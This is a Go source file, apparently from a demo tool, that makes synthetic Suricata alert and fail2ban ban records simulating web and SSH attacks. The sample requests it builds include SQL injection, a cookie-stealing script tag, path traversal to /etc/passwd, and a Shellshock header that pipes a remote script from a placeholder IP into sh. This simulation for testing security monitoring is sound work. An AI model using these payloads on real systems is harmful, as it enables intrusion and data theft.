package demo

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"fleetfeed/translators"
)

// Attack is a kind of hostile traffic Suricata sees.
type Attack string

// The attacks the demo plays.
const (
	// AttackWeb: SQL injection, cross-site scripting, path probing and
	// scanners against the website.
	AttackWeb Attack = "web"
	// AttackSSH: scans and password guessing against remote login.
	AttackSSH Attack = "ssh"
)

// signature is one Emerging Threats (or GPL) rule the demo's alerts match.
type signature struct {
	attack   Attack
	msg      string
	sid, rev int
	category string
	severity int
	created  string
	updated  string
	// request builds the HTTP request that set the rule off; nil for a
	// rule on raw TCP.
	request func(r *rand.Rand) httpRequest
	// banner is what the client said first, for a rule on raw TCP.
	banner string
}

// httpRequest is the part of a request the alert shows.
type httpRequest struct {
	method, url, agent string
	header             string // one more header line, or ""
}

var signatures = []signature{
	{
		attack: AttackWeb, msg: "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
		sid: 2006446, rev: 14, category: "Web Application Attack", severity: 1,
		created: "2010_07_30", updated: "2020_08_20",
		request: func(r *rand.Rand) httpRequest {
			return httpRequest{method: "GET",
				url:   fmt.Sprintf("/products.php?id=%d%%20UNION%%20SELECT%%20username,password,email%%20FROM%%20customers--", 10+r.IntN(900)),
				agent: "sqlmap/1.8.2#stable (https://sqlmap.org)"}
		},
	},
	{
		attack: AttackWeb, msg: "ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt",
		sid: 2009714, rev: 7, category: "Web Application Attack", severity: 1,
		created: "2010_07_30", updated: "2020_08_20",
		request: func(r *rand.Rand) httpRequest {
			return httpRequest{method: "GET",
				url:   "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
				agent: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"}
		},
	},
	{
		attack: AttackWeb, msg: "GPL WEB_SERVER /etc/passwd",
		sid: 2101122, rev: 13, category: "Attempted Information Leak", severity: 2,
		created: "2010_09_23", updated: "2019_07_26",
		request: func(r *rand.Rand) httpRequest {
			return httpRequest{method: "GET",
				url:   "/static/..%2f..%2f..%2f..%2fetc/passwd",
				agent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"}
		},
	},
	{
		attack: AttackWeb, msg: "ET WEB_SERVER Possible CVE-2014-6271 Attempt in Headers",
		sid: 2019232, rev: 4, category: "Attempted Administrator Privilege Gain", severity: 1,
		created: "2014_09_24", updated: "2019_10_08",
		request: func(r *rand.Rand) httpRequest {
			return httpRequest{method: "GET", url: "/cgi-bin/status",
				agent:  "() { :; }; /bin/bash -c \"curl -fsSL http://203.0.113.66/x.sh | sh\"",
				header: "Referer: () { :; }; echo vulnerable"}
		},
	},
	{
		attack: AttackWeb, msg: "ET SCAN Nikto Web App Scan in Progress",
		sid: 2002677, rev: 14, category: "Web Application Attack", severity: 1,
		created: "2010_07_30", updated: "2019_07_26",
		request: func(r *rand.Rand) httpRequest {
			paths := []string{"/admin/", "/phpmyadmin/", "/.git/config", "/wp-login.php", "/server-status"}
			return httpRequest{method: "GET", url: paths[r.IntN(len(paths))],
				agent: fmt.Sprintf("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)", r.IntN(8000))}
		},
	},
	{
		attack: AttackSSH, msg: "ET SCAN Potential SSH Scan",
		sid: 2001219, rev: 20, category: "Attempted Information Leak", severity: 2,
		created: "2010_07_30", updated: "2019_07_26",
		banner: "SSH-2.0-libssh_0.9.6\r\n",
	},
	{
		attack: AttackSSH, msg: "ET SCAN LibSSH Based Frequent SSH Connections Likely BruteForce Attack",
		sid: 2006546, rev: 8, category: "Attempted Administrator Privilege Gain", severity: 1,
		created: "2010_07_30", updated: "2019_07_26",
		banner: "SSH-2.0-libssh2_1.10.0\r\n",
	},
}

// eveAlert is one EVE alert record, its keys in Suricata's order.
type eveAlert struct {
	Timestamp        string       `json:"timestamp"`
	FlowID           int64        `json:"flow_id"`
	InIface          string       `json:"in_iface"`
	EventType        string       `json:"event_type"`
	SrcIP            string       `json:"src_ip"`
	SrcPort          int          `json:"src_port"`
	DestIP           string       `json:"dest_ip"`
	DestPort         int          `json:"dest_port"`
	Proto            string       `json:"proto"`
	PktSrc           string       `json:"pkt_src"`
	TxID             *int         `json:"tx_id,omitempty"`
	Alert            eveAlertRule `json:"alert"`
	HTTP             *eveHTTP     `json:"http,omitempty"`
	AppProto         string       `json:"app_proto,omitempty"`
	Direction        string       `json:"direction"`
	Flow             eveFlow      `json:"flow"`
	Payload          string       `json:"payload"`
	PayloadPrintable string       `json:"payload_printable"`
	Stream           int          `json:"stream"`
	Host             string       `json:"host"`
	Ether            eveEther     `json:"ether"`
}

type eveEther struct {
	SrcMAC  string `json:"src_mac"`
	DestMAC string `json:"dest_mac"`
}

type eveAlertRule struct {
	Action      string              `json:"action"`
	GID         int                 `json:"gid"`
	SignatureID int                 `json:"signature_id"`
	Rev         int                 `json:"rev"`
	Signature   string              `json:"signature"`
	Category    string              `json:"category"`
	Severity    int                 `json:"severity"`
	Metadata    map[string][]string `json:"metadata"`
}

type eveHTTP struct {
	Hostname  string `json:"hostname"`
	URL       string `json:"url"`
	UserAgent string `json:"http_user_agent"`
	Method    string `json:"http_method"`
	Protocol  string `json:"protocol"`
	Length    int    `json:"length"`
}

type eveFlow struct {
	PktsToServer  int    `json:"pkts_toserver"`
	PktsToClient  int    `json:"pkts_toclient"`
	BytesToServer int    `json:"bytes_toserver"`
	BytesToClient int    `json:"bytes_toclient"`
	Start         string `json:"start"`
	SrcIP         string `json:"src_ip"`
	DestIP        string `json:"dest_ip"`
	SrcPort       int    `json:"src_port"`
	DestPort      int    `json:"dest_port"`
}

func eveTime(t time.Time) string {
	return t.UTC().Format("2006-01-02T15:04:05.000000-0700")
}

// SuricataAlerts builds what Suricata running on s (its sensor-name set
// to the server's name) logs for an attack from src: n EVE alert lines
// (at least one), each its own flow with its own flow_id, in the seconds
// up to now.
// A web attack's lines carry the HTTP request in payload_printable.
func SuricataAlerts(s Server, attack Attack, src string, n int, r *rand.Rand, now time.Time) Payload {
	if n < 1 {
		n = 1
	}
	var sigs []*signature
	for i := range signatures {
		if signatures[i].attack == attack {
			sigs = append(sigs, &signatures[i])
		}
	}
	if len(sigs) == 0 {
		sigs = append(sigs, &signatures[0])
	}
	first := sigs[r.IntN(len(sigs))]
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	at := now.UTC().Add(-time.Duration(n-1) * 700 * time.Millisecond)
	for i := range n {
		sig := first
		if i > 0 && r.IntN(3) == 0 {
			sig = sigs[r.IntN(len(sigs))]
		}
		rec := eveRecord(s, sig, src, r, at)
		if err := enc.Encode(rec); err != nil {
			panic(fmt.Sprintf("demo: encode EVE record: %v", err)) // plain data: cannot fail
		}
		at = at.Add(jitter(r, 200*time.Millisecond, 1200*time.Millisecond))
		if at.After(now) {
			at = now.UTC()
		}
	}
	return Payload{
		Source:      translators.SourceSuricata,
		ContentType: ContentNDJSON,
		Body:        buf.Bytes(),
		Node:        s.Name,
	}
}

func eveRecord(s Server, sig *signature, src string, r *rand.Rand, at time.Time) eveAlert {
	srcPort := 32768 + r.IntN(28000)
	rec := eveAlert{
		Timestamp: eveTime(at),
		FlowID:    1_000_000_000_000_000 + r.Int64N(1_200_000_000_000_000),
		InIface:   "eth0",
		EventType: "alert",
		SrcIP:     src,
		SrcPort:   srcPort,
		DestIP:    s.IP,
		Proto:     "TCP",
		PktSrc:    "wire/pcap",
		Alert: eveAlertRule{
			Action: "allowed", GID: 1, SignatureID: sig.sid, Rev: sig.rev,
			Signature: sig.msg, Category: sig.category, Severity: sig.severity,
			Metadata: map[string][]string{"created_at": {sig.created}, "updated_at": {sig.updated}},
		},
		Direction: "to_server",
		Stream:    1,
		Host:      s.Name,
		Ether:     eveEther{SrcMAC: "00:1b:17:00:01:18", DestMAC: s.MAC}, // the upstream router
	}
	var payload string
	if sig.request != nil {
		req := sig.request(r)
		tx := 0
		rec.TxID = &tx
		rec.DestPort = 80
		rec.AppProto = "http"
		host := "shop.example.com"
		rec.HTTP = &eveHTTP{Hostname: host, URL: req.url, UserAgent: req.agent,
			Method: req.method, Protocol: "HTTP/1.1", Length: 0}
		var b strings.Builder
		fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n", req.method, req.url, host, req.agent)
		if req.header != "" {
			b.WriteString(req.header + "\r\n")
		}
		b.WriteString("Connection: close\r\n\r\n")
		payload = b.String()
	} else {
		rec.DestPort = 22
		rec.AppProto = "ssh"
		payload = sig.banner
	}
	rec.Payload = base64.StdEncoding.EncodeToString([]byte(payload))
	rec.PayloadPrintable = printable(payload)
	pkts := 3 + r.IntN(4)
	rec.Flow = eveFlow{
		PktsToServer: pkts, PktsToClient: pkts - 1,
		BytesToServer: 60*pkts + len(payload), BytesToClient: 60*(pkts-1) + r.IntN(400),
		Start:   eveTime(at.Add(-jitter(r, time.Millisecond, 300*time.Millisecond))),
		SrcIP:   src,
		DestIP:  s.IP,
		SrcPort: srcPort, DestPort: rec.DestPort,
	}
	return rec
}

// printable is Suricata's payload_printable: bytes outside printable ASCII,
// line breaks aside, become dots.
func printable(s string) string {
	b := []byte(s)
	for i, c := range b {
		if (c < 0x20 || c > 0x7e) && c != '\n' && c != '\r' {
			b[i] = '.'
		}
	}
	return string(b)
}

// Ban is one fail2ban ban of an address on a server.
type Ban struct {
	// Jail is the fail2ban jail: "sshd", or "apache-auth" for the
	// website's password-protected pages.
	Jail string
	IP   string
	// User is the user name the address tried.
	User string
	// Failures is how many failed logins set the ban off.
	Failures int
	// BanCount counts the address's bans, this one included.
	BanCount int
	// BanTime is how long the ban lasts, in seconds.
	BanTime int
	// At is when the ban began.
	At time.Time
}

// Fail2banBan builds the form fail2ban's webhook action POSTs when it bans
// b.IP on s (fleetfeed's action.d: event, jail, ip, family, failures, time,
// bantime, bancount, restored, host, short_host, user, matches), with the
// log lines that matched, dated just before the ban.
func Fail2banBan(s Server, b Ban, r *rand.Rand) Payload {
	var f form
	f.add("event", "ban")
	f.add("jail", b.Jail)
	f.add("ip", b.IP)
	f.add("family", "inet4")
	f.add("failures", strconv.Itoa(b.Failures))
	f.add("time", banTime(b.At))
	f.add("bantime", strconv.Itoa(b.BanTime))
	f.add("bancount", strconv.Itoa(b.BanCount))
	f.add("restored", "0")
	f.add("host", s.Name)
	f.add("short_host", s.Short)
	f.add("user", b.User)
	f.add("matches", strings.Join(banMatches(s, b, r), "\n"))
	return Payload{Source: translators.SourceFail2ban, ContentType: ContentForm, Body: []byte(f.String()), Node: s.Name}
}

// Fail2banUnban builds the form fail2ban's webhook action POSTs when b
// ends, BanTime seconds after b.At.
func Fail2banUnban(s Server, b Ban) Payload {
	var f form
	f.add("event", "unban")
	f.add("jail", b.Jail)
	f.add("ip", b.IP)
	f.add("failures", strconv.Itoa(b.Failures))
	f.add("time", banTime(b.At))
	f.add("bantime", strconv.Itoa(b.BanTime))
	f.add("host", s.Name)
	return Payload{Source: translators.SourceFail2ban, ContentType: ContentForm, Body: []byte(f.String()), Node: s.Name}
}

// banTime is fail2ban's <time>: seconds since the epoch, as a float.
func banTime(t time.Time) string {
	return strconv.FormatInt(t.Unix(), 10) + ".0"
}

// banMatches writes the log lines fail2ban matched: sshd's in the
// system log, or Apache's error log for apache-auth.
func banMatches(s Server, b Ban, r *rand.Rand) []string {
	lines := make([]string, 0, b.Failures)
	at := b.At.UTC().Add(-time.Duration(b.Failures) * 3 * time.Second)
	pid := 2000 + r.IntN(60000)
	for range b.Failures {
		at = at.Add(jitter(r, 500*time.Millisecond, 3*time.Second))
		port := 32768 + r.IntN(28000)
		pid += 1 + r.IntN(40)
		if b.Jail == "apache-auth" {
			lines = append(lines, fmt.Sprintf("[%s] [auth_basic:error] [pid %d:tid %d] [client %s:%d] AH01617: user %s: authentication failure for \"/admin/\": Password Mismatch",
				at.Format("Mon Jan 02 15:04:05.000000 2006"), pid, pid+11, b.IP, port, b.User))
			continue
		}
		who := "invalid user " + b.User
		if b.User == "root" {
			who = "root"
		}
		lines = append(lines, fmt.Sprintf("%s %s sshd[%d]: Failed password for %s from %s port %d ssh2",
			at.Format(time.Stamp), s.Short, pid, who, b.IP, port))
	}
	return lines
}

// guessedUsers are the user names password guessers try.
var guessedUsers = []string{"root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "deploy"}

// newBan makes the ban of ip on s beginning at now.
func newBan(s Server, ip string, count int, r *rand.Rand, now time.Time) Ban {
	jail := "sshd"
	if specFor(s.Role).svc == "httpd" && r.IntN(3) == 0 {
		jail = "apache-auth"
	}
	return Ban{
		Jail: jail, IP: ip, User: guessedUsers[r.IntN(len(guessedUsers))],
		Failures: 5 + r.IntN(4), BanCount: count, BanTime: 600 * count, At: now.UTC().Truncate(time.Second),
	}
}
